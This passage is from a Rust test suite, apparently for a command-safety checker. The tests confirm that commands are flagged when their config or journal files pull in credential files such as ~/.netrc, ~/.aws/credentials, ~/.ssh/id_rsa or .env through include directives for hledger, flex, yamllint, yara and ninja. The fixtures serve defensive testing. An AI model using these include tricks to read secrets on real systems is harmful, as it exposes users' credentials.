        for cmd in [
            "sequelize --version",
            "ava --version",
            "prisma -v",
            "sequelize --help",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        // Only the directory the command runs in is looked at by sequelize and prisma.
        write(root, "sub/x.txt", "");
        let sub = root.join("sub");
        assert_eq!(flagged(&sub, "sequelize --version"), None);
        assert_eq!(flagged(&sub, "prisma --version"), None);
    }

    #[test]
    fn hledger_journals_that_include_a_secret() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "books/main.journal",
            "include 2024.journal\ninclude timedot:time/*.timedot\n",
        );
        write(root, "books/2024.journal", "2024-01-01 x\n  a  1\n  b\n");
        write(root, "ok.csv", "a,b\n");
        write(root, "ok.csv.rules", "fields a, b\n");
        for cmd in [
            "hledger -f books/main.journal bal",
            "hledger bal -f books/2024.journal",
            "hledger print --file=ok.csv",
            "hledger bal",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(root, "a.journal", "include ~/.netrc\n");
        write(
            root,
            "b.journal",
            "!include  csv:/root/.aws/credentials ; x\n",
        );
        write(root, "c.journal", "include nested.journal\n");
        write(root, "nested.journal", "include ../../../root/.n?trc\n");
        write(root, "d.journal", "include ~/.ss?/*\n");
        write(root, "e.csv", "a,b\n");
        write(root, "e.csv.rules", "include .env\n");
        for cmd in [
            "hledger -f a.journal print",
            "hledger print -fb.journal",
            "hledger --file c.journal bal",
            "hledger bal -f d.journal",
            "hledger print -f csv:e.csv",
            "hledger bal -f \"$J\"",
            "cp x new.journal && hledger bal -f new.journal",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[test]
    fn flex_scanners_whose_options_write() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "ok.l", "%option noyywrap\n%%\n.|\\n ECHO;\n");
        write(
            root,
            "h.l",
            "%option noyywrap header-file=\"/root/.bashrc\"\n%%\n",
        );
        write(root, "t.l", "%option   tables-file\n%%\n");
        write(root, "o.l", "%option outfile=\"x.c\"\n%%\n");
        for cmd in ["flex -t ok.l", "flex -t < ok.l", "flex --stdout - < ok.l"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in [
            "flex -t h.l",
            "flex -t ok.l t.l",
            "flex -t < o.l",
            "cat ok.l | flex -t",
            "flex -t \"$F\"",
            "cp x ok2.l && flex -t ok2.l",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[test]
    fn configurations_that_name_a_secret() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, ".yamllint", "extends: relaxed\n");
        write(
            root,
            "ok.conf",
            "http { include mime.types; include /etc/nginx/conf.d/*.conf; }\n",
        );
        write(
            root,
            "ok.yar",
            "include \"common.yar\"\nrule a { condition: true }\n",
        );
        write(
            root,
            "ok.yaml",
            "extends: default\nignore-from-file: .gitignore\n",
        );
        for cmd in [
            "yamllint .",
            "gixy ok.conf",
            "yara ok.yar sample.bin",
            "yamllint -d relaxed f.yaml",
            "yamllint -d '{extends: relaxed, rules: {line-length: disable}}' f.yaml",
            "yamllint -c ok.yaml f.yaml",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(root, ".yamllint", "extends: ~/.aws/credentials\n");
        write(
            root,
            "cfg.yaml",
            "rules: {}\nignore-from-file: [.gitignore, /root/.netrc]\n",
        );
        for cmd in [
            "yamllint -d '{extends: ~/.netrc}' f.yaml",
            "yamllint --config-data='{ignore-from-file: /root/.netrc}' f.yaml",
            "yamllint -c cfg.yaml f.yaml",
            "yamllint -c \"$CFG\" f.yaml",
            "yamllint -d \"$CFG\" f.yaml",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        write(root, "bad.conf", "http { include /root/.ssh/*; }\n");
        write(root, "key.conf", "include \"~/.ssh/id_rsa\";\n");
        write(
            root,
            "r.yar",
            "include \"../../../root/.ssh/id_rsa\"\nrule a { condition: true }\n",
        );
        for cmd in [
            "yamllint .",
            "gixy bad.conf",
            "gixy-next key.conf",
            "yara -s r.yar sample.bin",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    /// Ninja's build file includes a secret (directly, through another build file of the
    /// checkout, or by a path built from variables): `ninja -t commands` prints the `.env`
    /// values a rule's command names, and the parse error quotes any other line.
    #[test]
    fn ninja_build_files_that_include_a_secret() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        assert_eq!(flagged(root, "ninja -t targets"), None);
        write(
            root,
            "build.ninja",
            "include rules.ninja\nsubninja sub/build.ninja\nbuild all: phony\n",
        );
        write(root, "rules.ninja", "rule cc\n  command = cc $in -o $out\n");
        write(root, "sub/build.ninja", "build x: phony\n");
        write(root, "out/build.ninja", "include ../rules.ninja\n");
        for cmd in [
            "ninja -t targets",
            "ninja -t commands all",
            "ninja -C out -t targets",
            "ninja --version",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(
            root,
            "rules.ninja",
            "include .env\nrule cc\n  command = echo $KEY\n",
        );
        write(root, "out/build.ninja", "subninja $root/x.ninja\n");
        write(root, "k/build.ninja", "include /root/.aws/credentials\n");
        write(root, "fresh/README", "");
        assert_eq!(flagged(&root.join("fresh"), "ninja -t targets"), None);
        for cmd in [
            "ninja -t commands all",
            "ninja -C out -t targets",
            "ninja -C k -t rules",
            "ninja -C \"$D\" -t targets",
            "cd fresh && cat ../x > build.ninja && ninja -t targets",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }
}
